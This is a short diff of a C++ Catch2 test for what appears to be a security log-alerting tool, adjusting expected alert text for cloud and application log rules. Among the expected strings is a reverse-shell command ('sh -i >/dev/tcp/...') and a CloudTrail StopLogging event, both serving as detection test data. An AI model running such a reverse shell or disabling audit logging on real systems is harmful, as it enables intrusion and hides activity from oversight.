@@ -100,12 +100,12 @@ TEST_CASE("cloud and application logs fire the rules that are about them",
                  "cloudtrail.amazonaws.com by arn:aws:iam::1:user/eve from "
                  "203.0.113.9 (error=<NA>) awsRegion=eu-west-1\n"));
   for (const char* part :
-       {"was StopLogging\n", "event 2: Task with a shell (critical): ",
-        "was sh -i >/dev/tcp/203.0.113.9/443\n",
+       {"was StopLogging ", "event 2: Task with a shell (critical): ",
+        ", sh -i >/dev/tcp/203.0.113.9/443 ",
         "event 4: Host path (warning): create pods shop/p by eve from ",
-        "was {\"path\":\"/\"}\n", "was 201\n",
+        "was {\"path\":\"/\"}", "was 201 ",
         "event 5: Stack trace (notice): {",
-        "was django.db.utils.IntegrityError: x\n"}) {
+        ", django.db.utils.IntegrityError: x "}) {
     CHECK_THAT(result.out, Catch::Contains(part));
   }
   CHECK_THAT(result.out, Catch::EndsWith("4 events, 4 alerts\n"));
